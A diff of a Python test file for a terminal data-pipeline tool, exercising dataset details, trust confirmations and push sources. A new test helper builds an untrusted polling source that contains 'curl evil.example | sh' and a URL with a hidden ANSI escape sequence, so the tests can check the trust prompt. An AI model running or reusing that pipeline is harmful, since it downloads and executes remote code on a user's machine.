@@ -18,6 +18,7 @@ from odf_engine.api.model import DatasetDetail, DatasetRow
 from odf_engine.api.workspace import Workspace as OpenWorkspace
 from odf_engine.errors import Conflict
 from odf_engine.jobs.pull import Pull
+from odf_engine.metadata.model import Pipe, SetPollingSource, Sql, SqlQueryStep, Url
 from odf_engine.worker.protocol import JobState
 from odf_engine.workspace.trust import EXECUTION_KINDS
 from odf_engine.workspace.waiting import AwaitedInput, Waiting
@@ -42,22 +43,52 @@ from odf_tui.widgets.choice_list import Choices
 from odf_tui.widgets.dialogs import TypedConfirmation
 from tests.tui.conftest import driven
 from tests.tui.context import Fakes
-from tests.tui.fake import FakeSource, dataset
+from tests.tui.haven import TIDES, commit, create, dataset, did, distrust
+from tests.tui.scripted_worker import Scenario
 from tests.tui.test_golden_screens import compare, resize
 from tests.tui.widget_app import WidgetApp, shown
-
-TIDES = "did:odf:harbour.tides"
 
 
 def _text(lines: Text) -> str:
     return "\n".join("".join(text for text, _ in line) for line in lines)
 
 
+EVENTS = """\
+kind: DatasetSnapshot
+version: 1
+content:
+  name: events
+  kind: Root
+  metadata:
+    - kind: AddPushSource
+      sourceName: default
+      read: {kind: NdJson, schema: [station STRING]}
+      merge: {kind: Append}
+"""
+
+
+def distrust_tides(source: Scenario) -> None:
+    """Make the tides a dataset of somebody else, which runs a command and twenty queries."""
+    tides = source.entry(TIDES)
+    polling = tides.dataset.state().polling_source
+    assert polling is not None
+    queries = [SqlQueryStep(alias=f"q{number}", query=f"SELECT {number}") for number in range(19)]
+    event = SetPollingSource(
+        fetch=Url("http://10.0.0.7/\x1b[8mquiet.csv"),
+        prepare=[Pipe(["sh", "-c", "curl evil.example | sh"])],
+        read=polling.read,
+        preprocess=Sql("spark", queries=[*queries, SqlQueryStep(query="SELECT 19")]),
+        merge=polling.merge,
+    )
+    commit(tides.dataset, event)
+    distrust(tides)
+
+
 @pytest.mark.app
-async def test_workstation_shows_details_trust_and_push_sources(source: FakeSource) -> None:
+async def test_workstation_shows_details_trust_and_push_sources(source: Scenario) -> None:
     async with driven(source, (80, 24)) as drive:
         # A failed pull: the border, the dialog, the card.
-        await drive.press("G", "k")
+        await drive.press("G")
         row = drive.graph.row
         assert row is not None
         assert row.name == "port-haven.clinics"
@@ -76,10 +107,11 @@ async def test_workstation_shows_details_trust_and_push_sources(source: FakeSour
         await drive.press("escape")
 
         # Trust.
-        source.rows_ = [*source.rows_[:-1], replace(source.rows_[-1], standing="not trusted")]
-        await drive.press("r", "g", "U")
+        distrust_tides(source)
+        await drive.press("r")
+        await drive.press("g", "U")
         assert "is your own" in drive.hint()
-        await drive.press("G")
+        await drive.press("G", "k")
         assert "◇ harbour.tides ⊘✓" in drive.text()
         await drive.press("U")
         assert "is untrusted" in drive.hint()
@@ -108,24 +140,26 @@ async def test_workstation_shows_details_trust_and_push_sources(source: FakeSour
         assert "harbour.tides is already trusted" in drive.hint()
 
         # Push sources.
+        create(source._workspace, EVENTS)
         source.rows_ = [
-            dataset("events", polls=False, push_sources=("default",)),
+            next(row for row in source.datasets() if row.name == "events"),
             dataset("broken", polls=False, problem="block 3 is missing"),
         ]
         await resize(drive, (120, 36))
-        await drive.press("r", "g", "p")
+        await drive.press("r")
+        await drive.press("g", "p")
         assert "events has no polling source: press , i to push rows" in drive.hint()
         assert "Press , i to push them from files" in drive.text()
         await drive.press("P")
         assert "there is nothing to pull" in drive.hint()
         job = source.job(JobState.running, "events", "ingest")
         source.link.tell(source.changed(job))
-        await drive.until(lambda: drive.healths["did:odf:events"] is Health.running)
+        await drive.until(lambda: drive.healths[did("events")] is Health.running)
         assert "▸ ingest events" in drive.text()
         result = '{"status": "updated", "records": 7, "blocks": 1}'
         done = replace(job, state=JobState.done, ended="2024-03-11T09:00:03Z", result=result)
         source.link.tell(source.changed(done))
-        await drive.until(lambda: drive.healths["did:odf:events"] is Health.current)
+        await drive.until(lambda: drive.healths[did("events")] is Health.current)
         await drive.settle()
         await drive.press("enter")
         assert isinstance(drive.app.screen, DatasetDialog)
@@ -134,7 +168,7 @@ async def test_workstation_shows_details_trust_and_push_sources(source: FakeSour
         assert "broken is damaged" in drive.hint()
 
 
-async def test_the_keys_of_the_details_run_actions(source: FakeSource) -> None:
+async def test_the_keys_of_the_details_run_actions(source: Scenario) -> None:
     actions = {"p": "pull", "e": "edit", "D": "begin_anew", "u": "push", "m": "look", "V": "branches"}
     for key, action in actions.items():
         dialog = DatasetDialog("clinics", [[("words", "")]], "name: clinics", lambda text: None)
@@ -189,27 +223,28 @@ def test_next_step_names_what_adds_rows() -> None:
     assert "broken is damaged" in (edit(Situation(dataset=broken)) or "")
 
 
-def test_ingest_outcome_is_its_row_count(source: FakeSource) -> None:
+def test_ingest_outcome_is_its_row_count(source: Scenario) -> None:
     result = '{"status": "updated", "records": 7, "blocks": 1}'
     assert job_outcome(source.job(JobState.done, "events", "ingest", result=result)) == ("+7 rows", "good")
 
 
 async def test_dialogs_have_room_for_their_last_line_at_any_size(
-    source: FakeSource, monkeypatch: pytest.MonkeyPatch
+    source: Scenario, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(WidgetApp, "VERTICAL_BREAKPOINTS", Workstation.VERTICAL_BREAKPOINTS)
-    source.rows_ = [replace(source.rows_[0], standing="not trusted"), *source.rows_[1:]]
+    distrust_tides(source)
     data = SimpleNamespace(view=SimpleNamespace(opened=None))
 
     def dialogs() -> list[Any]:
-        fakes = Fakes(source, source.rows_[0].name, answers=[None] * 3, widgets={DataPane: data})
+        fakes = Fakes(source, "harbour.tides", answers=[None] * 3, widgets={DataPane: data})
         fakes.host.front = SimpleNamespace(label="Datasets")  # type: ignore[attr-defined]
         fakes.host.terminal.theme_names = ["tide", "sixteen"]
         palette = PaletteController(fakes.context)
         palette.show_keys()
         palette.find()
-        row = source.rows_[0]
-        lines = trust_request_lines(row, source.trust_status(row.id))
+        row = fakes.state.row_of(TIDES)
+        assert row is not None
+        lines = trust_request_lines(row, source.trust_status(TIDES))
         asks = "type yes to trust it"
         return [*fakes.host.dialogs, TypedConfirmation("Trust it to run this?", lines, ("yes",), asks)]
 
